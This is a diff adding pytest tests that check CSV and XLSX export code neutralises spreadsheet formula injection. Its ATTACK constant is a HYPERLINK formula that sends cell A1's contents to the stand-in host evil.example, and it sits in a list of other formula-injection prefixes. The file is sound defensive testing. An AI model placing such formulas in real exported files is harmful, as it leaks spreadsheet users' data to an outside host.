@@ -1,0 +1,70 @@
+import csv
+import io
+from datetime import date
+
+import pytest
+from openpyxl import load_workbook
+
+from core import tables
+
+ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+DANGEROUS = [ATTACK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1+1"]
+
+
+def read_csv(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+def read_xlsx(body: bytes):
+    return load_workbook(io.BytesIO(body)).active
+
+
+@pytest.mark.parametrize("value", DANGEROUS)
+def test_csv_marks_text_that_a_spreadsheet_would_run(value):
+    cell = read_csv(tables.csv_text([[value]]))[0][0]
+
+    assert cell == "'" + value
+
+
+@pytest.mark.parametrize("value", DANGEROUS)
+def test_a_marked_csv_cell_reads_back_as_written(value):
+    cell = read_csv(tables.csv_text([[value]]))[0][0]
+
+    assert tables.read_csv_cell(cell) == value
+
+
+def test_csv_leaves_other_text_and_numbers_as_they_are():
+    rows = read_csv(tables.csv_text([["Łucja WĄSOWSKA", "a=b", "'quoted'", -3, 4]]))
+
+    assert rows == [["Łucja WĄSOWSKA", "a=b", "'quoted'", "-3", "4"]]
+
+
+def test_reading_leaves_a_leading_quote_that_marks_nothing():
+    assert tables.read_csv_cell("'quoted'") == "'quoted'"
+
+
+# (XML reads a carriage return as a line feed: that one is left out here.)
+@pytest.mark.parametrize("value", [value for value in DANGEROUS if "\r" not in value])
+def test_xlsx_stores_text_as_a_string_never_a_formula(value):
+    cell = read_xlsx(tables.xlsx_bytes([[value]], "Registrations"))["A1"]
+
+    assert (cell.data_type, cell.value) == ("s", value)
+
+
+def test_xlsx_keeps_numbers_dates_and_booleans():
+    sheet = read_xlsx(tables.xlsx_bytes([[3, True, date(2025, 1, 27), None]], "Plan"))
+
+    number, boolean, day = (cell.value for cell in sheet[1][:3])
+    assert (number, boolean, day.date()) == (3, True, date(2025, 1, 27))
+
+
+def test_xlsx_drops_control_characters_that_xml_cannot_hold():
+    sheet = read_xlsx(tables.xlsx_bytes([["Amina\x01 Haddad"]], "Registrations"))
+
+    assert sheet["A1"].value == "Amina Haddad"
+
+
+def test_xlsx_sheet_name_is_cut_to_what_excel_takes():
+    book = load_workbook(io.BytesIO(tables.xlsx_bytes([["x"]], "R" * 40)))
+
+    assert book.sheetnames == ["R" * 31]
